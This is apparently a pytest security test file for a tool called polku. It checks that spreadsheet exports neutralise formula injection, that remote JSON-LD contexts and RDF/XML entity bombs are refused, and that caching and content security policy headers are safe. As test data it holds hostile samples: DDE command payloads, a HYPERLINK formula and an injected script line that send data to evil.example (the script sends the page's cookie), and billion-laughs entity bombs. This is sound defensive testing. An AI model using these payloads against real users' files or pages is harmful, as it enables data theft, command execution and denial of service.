"""What an attacker could do with the files polku writes and the server's answers: each
test drives the real CLI or the real HTTP app with hostile data and checks it stays data.

- spreadsheet formula injection (OWASP "CSV Injection"): every CSV polku writes for people
  to open in Excel or LibreOffice puts a ``'`` before a cell that starts like a formula
  (``=``, ``+``, ``-``, ``@``, tab, carriage return), numbers left as they are; no .xlsx
  it writes holds a formula cell;
- another publisher's data reads nothing else: a JSON-LD context named by address is
  refused unfetched, an RDF/XML entity bomb refused at once;
- a shared cache never keeps an editor's answer (``private``, ``Vary``);
- a tokens file other users can read is warned of;
- a script that is not polku's own would not run in a served page (the content security
  policy names the hashes of polku's own inline scripts only).
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient

from helpers import run
from polku.app import create_app
from polku.io.workbook import FORMULA_STARTS

#: what a name may hold that a spreadsheet would run: a link that sends the sheet's cells
#: elsewhere, a DDE command, a formula behind a leading minus
HOSTILE_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_SEGMENT = "-2+3+cmd|' /C calc'!A0"


def _set(path: Path, row_key: str, column: str, value: str) -> None:
    """One cell of a workbook sheet (the row whose first column is ``row_key``)."""
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    col = rows[0].index(column)
    for r in rows[1:]:
        if r[0] == row_key:
            r[col] = value
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)


@pytest.fixture
def hostile(mini: Path) -> Path:
    """The mini workbook with formulas in an organisation's and a segment's names and in a
    follow-up's note (cells a designer may type anything into)."""
    _set(mini / "actors.csv", "keusote", "name", HOSTILE_ORG)
    _set(mini / "segments.csv", "nuoret", "name", HOSTILE_SEGMENT)
    (mini / "followups.csv").write_text(
        "finding,status,owner,due,note\n"
        f"multiple-leads:kuntouttava,in-progress,keusote,,\"{HOSTILE_NOTE.replace(chr(34), 2 * chr(34))}\"\n",
        encoding="utf-8")
    r = run("validate", mini)
    assert r.exit_code == 0, r.output
    return mini


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell)]


def test_the_action_list_csv_runs_no_formula(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "actions.csv"
    r = run("actions", hostile, "--format", "csv", "-o", out)
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8-sig")
    assert formula_cells(text) == []
    # the text is all there, behind the apostrophe a spreadsheet shows as nothing
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE_ORG in cells and "'" + HOSTILE_NOTE in cells


def test_the_action_list_from_the_api_and_the_report_runs_no_formula(hostile: Path,
                                                                     tmp_path: Path) -> None:
    served = tmp_path / "graphs"
    served.mkdir()
    shutil.copytree(hostile, served / "mini")
    client = TestClient(create_app([served]))
    r = client.get("/api/graphs/mini/actions", params={"format": "csv"})
    assert r.status_code == 200
    assert HOSTILE_ORG in r.text and formula_cells(r.text) == []
    page = client.get("/graphs/mini/report").text
    href = re.search(r'download="[^"]*actions.csv" href="data:text/csv;charset=utf-8,([^"]*)"',
                     page)
    assert href is not None
    embedded = unquote(href.group(1).replace("&amp;", "&")).lstrip("\ufeff")
    assert HOSTILE_ORG in embedded and formula_cells(embedded) == []


def test_the_regions_csv_runs_no_formula(mini: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    shutil.copytree(mini, other)
    (mini / "graph.csv").write_text(f"id,title\nmini,\"{HOSTILE_NOTE.replace(chr(34), 2 * chr(34))}\"\n",
                                    encoding="utf-8")
    r = run("compare", mini, other, "--format", "csv")
    assert r.exit_code == 0, r.output
    cells = [c for row in csv.reader(io.StringIO(r.stdout)) for c in row]
    assert "'" + HOSTILE_NOTE in cells and formula_cells(r.stdout) == []


def test_spreadsheets_polku_writes_hold_no_formula(hostile: Path, tmp_path: Path) -> None:
    """An .xlsx cell whose text starts with ``=`` is a formula to openpyxl unless polku says
    it is text: the RACI matrix, the action list and the exported workbook hold none."""
    import zipfile

    _set(hostile / "services.csv", "kuntouttava", "name", HOSTILE_NOTE)
    (hostile / "graph.csv").write_text("id,title\nmini,=1+1\n", encoding="utf-8")
    written = {"raci": tmp_path / "raci.xlsx", "actions": tmp_path / "actions.xlsx",
               "workbook": tmp_path / "mini.xlsx"}
    assert run("raci", hostile, "-o", written["raci"]).exit_code == 0
    assert run("actions", hostile, "--format", "xlsx", "-o", written["actions"]).exit_code == 0
    assert run("export", hostile, "--to", "xlsx", "-o", written["workbook"]).exit_code == 0
    for what, path in written.items():
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n).decode() for n in z.namelist()
                      if n.startswith("xl/worksheets/sheet")]
            text = " ".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
        assert not any("<f>" in s for s in sheets), what
        assert "HYPERLINK" in text, what  # kept, as text


# -- reading another publisher's data: nothing fetched -----------------------------------

@pytest.fixture
def listener():
    """A local HTTP server that records every request it gets (what a JSON-LD context from
    elsewhere would make polku fetch: an address inside the organisation's network)."""
    import http.server
    import threading

    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
            asked.append(self.path)
            body = b'{"@context": {"name": "http://purl.org/dc/terms/title"}}'
            self.send_response(200)
            self.send_header("Content-Type", "application/ld+json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


CPSV = "http://purl.org/vocab/cpsv#PublicService"


@pytest.mark.parametrize("context", [
    "{url}/context.jsonld",
    ["{url}/context.jsonld", {"title": "http://purl.org/dc/terms/title"}],
    {"@import": "{url}/context.jsonld"},
])
def test_a_json_ld_context_from_elsewhere_is_refused_unfetched(listener, tmp_path: Path,
                                                              english_cli, context) -> None:
    """JSON-LD may name its context by address: rdflib then fetches it (a request from
    the machine polku runs on to wherever the file says: inside the organisation's network
    too) or reads a local file. polku reads nothing from elsewhere: the file is refused,
    naming the context, and nothing is asked."""
    import json

    url, asked = listener
    filled = json.loads(json.dumps(context).replace("{url}", url))
    doc = {"@context": filled, "@id": "http://example.org/s1", "@type": CPSV, "name": "x"}
    (tmp_path / "other.jsonld").write_text(json.dumps(doc), encoding="utf-8")
    # a node's own context, deep in the document, is a context too
    nested = {"@graph": [{"@id": "http://example.org/s2", "@type": CPSV,
                          "@context": filled}]}
    (tmp_path / "nested.jsonld").write_text(json.dumps(nested), encoding="utf-8")
    for name in ("other.jsonld", "nested.jsonld"):
        for args in (("import", tmp_path / name, "-o", tmp_path / "out.ttl"),
                     ("validate", tmp_path / name), ("show", tmp_path / name)):
            r = run(*args)
            assert r.exit_code == 1, (args, r.output)
            assert "context" in r.output and "Traceback" not in r.output, r.output
    assert asked == []
    assert not (tmp_path / "out.ttl").exists()


def test_a_json_ld_context_in_a_local_file_is_refused_unread(tmp_path: Path,
                                                            english_cli) -> None:
    import json

    secret = tmp_path / "secret.json"
    secret.write_text('{"@context": {"name": "http://purl.org/dc/terms/title"}}')
    doc = {"@context": secret.as_uri(), "@id": "http://example.org/s1", "@type": CPSV,
           "name": "x"}
    (tmp_path / "other.jsonld").write_text(json.dumps(doc), encoding="utf-8")
    r = run("import", tmp_path / "other.jsonld", "-o", tmp_path / "out.ttl")
    assert r.exit_code == 1 and "context" in r.output, r.output


def test_a_served_json_ld_file_with_a_context_from_elsewhere_is_not_fetched(
        listener, tmp_path: Path) -> None:
    import json

    url, asked = listener
    served = tmp_path / "graphs"
    served.mkdir()
    doc = {"@context": f"{url}/context.jsonld", "@id": "http://example.org/s1",
           "@type": CPSV, "name": "x"}
    (served / "other.jsonld").write_text(json.dumps(doc), encoding="utf-8")
    client = TestClient(create_app([served]))
    info = client.get("/api/graphs").json()
    assert [g["state"] for g in info] == ["failed"]
    assert "context" in info[0]["problem"]
    assert asked == []


# -- the server's answers: what a cache between it and its readers may keep ----------------

EDITOR_TOKEN = "e" * 24


@pytest.mark.parametrize("path", ["/api/graphs/mini/rows/referrals", "/api/graphs/mini",
                                  "/api/graphs/mini/findings", "/graphs/mini",
                                  "/graphs/mini/report", "/api/graphs/mini/changes",
                                  "/api/graphs/mini/actions?format=csv"])
def test_an_editors_answer_is_kept_by_no_shared_cache(served: Path, path: str) -> None:
    """An editor reads the true figures (a referral of 3 clients a month) where the public
    reads ``<5``, at the same address and under the same ETag: a reverse proxy or another
    shared cache that kept the editor's answer would give the true figures to the public.
    An answer to a request with a credential is ``private``; every answer says it varies by
    the credential."""
    from polku.server.auth import parse_tokens

    client = TestClient(create_app([served], parse_tokens(f"ed:{EDITOR_TOKEN}")))
    editor = client.get(path, headers={"Authorization": f"Bearer {EDITOR_TOKEN}"})
    public = client.get(path)
    assert editor.status_code == public.status_code == 200
    if path.endswith("/rows/referrals"):  # the figures differ indeed
        assert "<5" in public.text and "<5" not in editor.text
    assert "private" in editor.headers["cache-control"].split(", ")
    assert "no-cache" in editor.headers["cache-control"]
    for r in (editor, public):
        varies = {v.strip().lower() for v in r.headers["vary"].split(",")}
        assert {"authorization", "cookie"} <= varies, r.headers["vary"]
    # the session cookie of the web UI's sign-in is a credential too
    signed_in = client.get(path, cookies={"polku_session": "x.y.z"})
    assert "private" in signed_in.headers["cache-control"]


def _rdf_xml(doctype: str, title: str) -> str:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [{doctype}]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            'xmlns:dct="http://purl.org/dc/terms/">\n'
            f' <rdf:Description rdf:about="http://example.org/s1"><rdf:type rdf:resource='
            f'"&cpsv;PublicService"/><dct:title xml:lang="fi">{title}</dct:title>'
            '</rdf:Description>\n</rdf:RDF>\n')


CPSV_ENTITY = '<!ENTITY cpsv "http://purl.org/vocab/cpsv#">'


@pytest.mark.parametrize("doctype, title", [
    # the billion laughs: a kilobyte that names a gigabyte
    (CPSV_ENTITY + '<!ENTITY a0 "xxxxxxxxxx">' + "".join(
        f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10)), "&a9;"),
    # a short entity named many times: rdflib joins the pieces one by one (quadratic)
    (CPSV_ENTITY + '<!ENTITY a "xxxxxxxxxx">', "&a;" * 200_000),
], ids=["nested", "repeated"])
def test_an_rdf_xml_entity_bomb_is_refused_at_once(tmp_path: Path, english_cli, doctype: str,
                                                  title: str) -> None:
    """Another publisher's RDF/XML is read by rdflib, which joins an element's text piece by
    piece as the XML parser hands it over: entities that expand to many pieces kept
    ``polku import`` busy for hours (ten nested entities: for ever; 80,000 references to
    one: 17 s, 200,000: minutes). Refused, located, in well under a second."""
    import time

    (tmp_path / "bomb.rdf").write_text(_rdf_xml(doctype, title), encoding="utf-8")
    started = time.monotonic()
    r = run("import", tmp_path / "bomb.rdf", "-o", tmp_path / "out.ttl")
    assert time.monotonic() - started < 10
    assert r.exit_code == 1 and "bomb.rdf" in r.output and "entit" in r.output, r.output
    assert not (tmp_path / "out.ttl").exists()


def test_rdf_xml_with_entities_for_its_namespaces_is_read(tmp_path: Path) -> None:
    """What ontology editors write (entities that abbreviate namespaces, in attributes and
    now and then in a text) is read as before."""
    doctype = CPSV_ENTITY + '<!ENTITY owl "http://www.w3.org/2002/07/owl#">'
    (tmp_path / "ok.rdf").write_text(_rdf_xml(doctype, "Palvelu &amp; &#65; &owl;"),
                                     encoding="utf-8")
    r = run("import", tmp_path / "ok.rdf", "-o", tmp_path / "out.ttl")
    assert r.exit_code == 0, r.output
    assert "Palvelu & A http://www.w3.org/2002/07/owl#" in (tmp_path / "out.ttl").read_text()


# -- the server's own secrets -------------------------------------------------------------

def test_a_tokens_file_others_can_read_is_warned_of(tmp_path: Path, english_cli) -> None:
    """The edit keys act as admins: a tokens file other users of the machine can read gives
    them every write. ``polku serve`` says so (the README asks for ``chmod 600``)."""
    import os

    tokens = tmp_path / "tokens.txt"
    tokens.write_text("anna:" + "a" * 24 + "\n", encoding="utf-8")
    os.chmod(tokens, 0o644)
    # an address that is no machine's: the command stops before serving
    r = run("serve", tmp_path, "--tokens", tokens, "--host", "nosuch.invalid")
    assert r.exit_code == 1
    assert "can be read by other users" in r.output and "chmod 600" in r.output, r.output
    os.chmod(tokens, 0o600)
    r = run("serve", tmp_path, "--tokens", tokens, "--host", "nosuch.invalid")
    assert r.exit_code == 1 and "other users" not in r.output, r.output


_EXECUTABLE = re.compile(r"<script(?![^>]*\s(?:src|type)\s*=)[^>]*>(.*?)</script\s*>", re.S | re.I)


def test_every_script_of_a_template_is_the_same_text_on_every_page() -> None:
    """The content security policy allows polku's own scripts by their hashes, computed
    from the templates once: a template script holding template syntax would differ from
    page to page and be blocked. What a script needs travels as JSON data beside it."""
    root = Path(__file__).resolve().parents[1] / "src" / "polku" / "templates"
    scripts = {p.relative_to(root).as_posix(): _EXECUTABLE.findall(p.read_text(encoding="utf-8"))
               for p in sorted(root.rglob("*.html"))}
    assert sum(map(len, scripts.values())) >= 6
    assert {name: [s[:60] for s in found if "{{" in s or "{%" in s or "{#" in s]
            for name, found in scripts.items()} == {name: [] for name in scripts}


def test_every_page_writes_through_the_one_write_helper() -> None:
    """A write from a page signed in by the session cookie carries the page's CSRF token
    (docs/access.md); the PTV page's own fetch never set it, so a signed-in person's Apply
    and Undo were refused 403 (tests/test_keycloak.py drives that page). No page can forget
    it now: no template's script but the helper's (templates/server/write.html) calls
    fetch with a method (a write, or the PTV comparison's POST), and each page that uses
    the helper renders it."""
    root = Path(__file__).resolve().parents[1] / "src" / "polku" / "templates"
    sending, using = {}, []
    for path in sorted(root.rglob("*.html")):
        name = path.relative_to(root).as_posix()
        text = path.read_text(encoding="utf-8")
        calls = [line.strip()[:80] for script in _EXECUTABLE.findall(text)
                 for line in script.splitlines() if "fetch(" in line and "method" in line]
        if calls:
            sending[name] = calls
        if "polkuWrite" in text and name != "server/write.html":
            using.append(name)
            assert '{% import "write.html" as write with context %}' in text and \
                "{{ write.script() }}" in text, name
    assert list(sending) == ["server/write.html"], sending
    assert {"server/graph.html", "server/ptv.html"} <= set(using), using


def test_a_script_that_is_not_polkus_own_is_not_allowed_to_run() -> None:
    """A script escaping let through into a page is not in the page's policy: the policy
    names the hashes of polku's own inline scripts only (it named every inline script the
    page held, so an injected one was allowed too). FastAPI's API docs page, built from
    the app's settings, keeps its own start-up script."""
    import asyncio

    from polku.server.http import ScriptHashes, own_scripts, script_hash

    own = b"polkuView(document.currentScript.parentElement);"
    evil = b"fetch('//evil.example/?'+document.cookie)"
    page = b"<html><body><section><script>" + own + b"</script></section><script>" + evil + \
        b"</script></body></html>"

    async def html_app(scope, receive, send) -> None:
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/html; charset=utf-8")]})
        await send({"type": "http.response.body", "body": page})

    def policy_at(path: str) -> str:
        sent: list = []

        async def send(message) -> None:
            sent.append(message)

        async def receive():
            return {"type": "http.request", "body": b""}

        app = ScriptHashes(html_app, allowed=own_scripts())
        asyncio.run(app({"type": "http", "path": path, "headers": []}, receive, send))
        return dict(sent[0]["headers"])[b"content-security-policy"].decode()

    page_policy = policy_at("/graphs/mini")
    assert f"'sha256-{script_hash(own)}'" in page_policy
    assert script_hash(evil) not in page_policy
    assert script_hash(evil) in policy_at("/docs")
